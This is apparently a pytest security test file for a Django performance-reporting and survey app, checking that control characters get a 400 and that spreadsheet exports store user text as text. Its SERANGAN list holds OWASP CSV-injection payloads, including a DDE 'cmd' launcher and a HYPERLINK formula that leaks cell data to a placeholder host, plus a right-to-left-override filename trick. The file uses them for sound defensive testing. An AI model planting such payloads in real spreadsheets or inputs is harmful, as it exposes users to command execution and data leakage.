"""Hostile text: control characters and bidirectional overrides refused at the edge with a 400 (never a
500, on SQLite or PostgreSQL), and user text written into spreadsheets as text — never a formula —
with the OWASP CSV-injection payloads."""

from __future__ import annotations

import io
from dataclasses import replace

import openpyxl
import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kinerja.documents.contexts import dokumen_pk
from kinerja.documents.xlsx import render_xlsx
from kinerja.domain.teks_masuk import KARAKTER_TERLARANG
from kinerja.surveys import services
from tests.conftest import build_pk_data
from tests.surveys.conftest import jawaban_penuh

pytestmark = pytest.mark.django_db

# OWASP "CSV Injection" payloads, and what a spreadsheet program would run or follow.
SERANGAN = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid?leak="&A1, "Klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize(
    ("url", "data", "tempat"),
    [
        ("/pohon/?cari=a%00b", None, "parameter “cari”"),
        ("/pohon/?cari=%0Bx", None, "parameter “cari”"),
        ("/pohon/?cari=abc%E2%80%AEgpj.exe", None, "parameter “cari”"),  # U+202E right-to-left override
        ("/pk/%00/", None, "alamat halaman"),
        ("/masuk/", {"username": "a\x00", "password": "x"}, "isian “username”"),
    ],
)
def test_control_characters_are_refused_with_a_400_that_says_where(url, data, tempat):
    client = Client(enforce_csrf_checks=False)
    r = client.post(url, data) if data is not None else client.get(url)
    assert r.status_code == 400
    teks = r.content.decode()
    assert tempat in teks and "karakter kendali" in teks


def test_tabs_and_line_breaks_are_ordinary_text(client):
    assert client.get("/pohon/", {"cari": "Camat\tBajeng\r\nGowa"}).status_code == 200


def _pola_tanpa_argumen(patterns=None, awal: str = "") -> list[str]:
    """Every URL of the project that takes no argument (admin and static left out)."""
    hasil = []
    for p in patterns if patterns is not None else get_resolver().url_patterns:
        rute = awal + str(p.pattern)
        if rute.startswith(("admin/", "static/", "media/")):
            continue
        if isinstance(p, URLResolver):
            hasil += _pola_tanpa_argumen(p.url_patterns, rute)
        elif isinstance(p, URLPattern) and "<" not in rute and not rute.startswith("^"):
            hasil.append("/" + rute)
    return sorted(set(hasil))


TEKS_ACAK = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)


@settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(
    nama=st.sampled_from(["cari", "tahun", "halaman", "unit", "layanan", "q", "pemda", "format"]),
    nilai=TEKS_ACAK,
)
def test_no_page_answers_500_to_any_text_in_any_parameter(nama, nilai):
    """Random unicode (controls included) in a query parameter of every page without an argument, for a
    visitor and for a pemda admin: a page, a redirect, a 400 or a 404 — never a 500."""
    from django.contrib.auth import get_user_model

    admin, _ = get_user_model().objects.get_or_create(username="admin_acak", defaults={"is_superuser": True})
    for masuk in (False, True):
        client = Client(raise_request_exception=False)
        if masuk:
            client.force_login(admin)
        for url in _pola_tanpa_argumen():
            r = client.get(url, {nama: nilai})
            assert r.status_code < 500, (url, nama, nilai, r.status_code)
            if KARAKTER_TERLARANG.search(nilai):
                assert r.status_code == 400, (url, nama, nilai)


def test_every_url_without_argument_is_tried():
    urls = _pola_tanpa_argumen()
    assert {"/", "/pohon/", "/masuk/", "/skm/hasil/", "/pk/impor/"} <= set(urls)


def test_a_respondents_formula_is_text_in_the_saran_workbook(periode_a, operator_a):
    for saran in [*SERANGAN, "NUL\x00di tengah", "tab\x0bvertikal"]:
        services.kirim_respons(periode_a, {**jawaban_penuh(3), "saran": saran})
    c = Client()
    c.force_login(operator_a)
    r = c.get(reverse("surveys:saran_xlsx", args=[periode_a.pk]))
    assert r.status_code == 200
    lembar = openpyxl.load_workbook(io.BytesIO(r.content)).active
    sel = {row[4].value: row[4] for row in lembar.iter_rows(min_row=2)}
    for serangan in SERANGAN:  # the form keeps a saran without its leading and trailing blanks
        assert serangan.strip() in sel, serangan
        assert sel[serangan.strip()].data_type == "s"
    assert "NULdi tengah" in sel and "tab vertikal" in sel  # cleaned when received (a NUL cannot be stored)


def test_an_indikator_starting_like_a_formula_is_text_in_the_pk_workbook():
    pk = build_pk_data(n_indikator=1)
    [s, *lain] = pk.sasaran
    s = replace(s, uraian=SERANGAN[0], indikator=(replace(s.indikator[0], uraian="=1+1"),))
    pk = replace(pk, sasaran=(s, *lain), unit="@SUM(1+1)")
    buku = openpyxl.load_workbook(io.BytesIO(render_xlsx(dokumen_pk(pk, tanda_air=""))))
    semua = {c.value: c for row in buku["Tabel Kinerja"].iter_rows() for c in row if isinstance(c.value, str)}
    for teks in (SERANGAN[0], "=1+1"):
        assert semua[teks].data_type == "s" and semua[teks].quotePrefix
    assert any("@SUM(1+1)" in v for v in semua)


def test_a_request_body_over_the_limit_is_refused_before_it_is_read(client):
    r = client.generic(
        "POST",
        "/pk/impor/",
        b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(13 * 1024 * 1024),
    )
    assert r.status_code == 413
    assert "paling besar 12 MB" in r.content.decode()
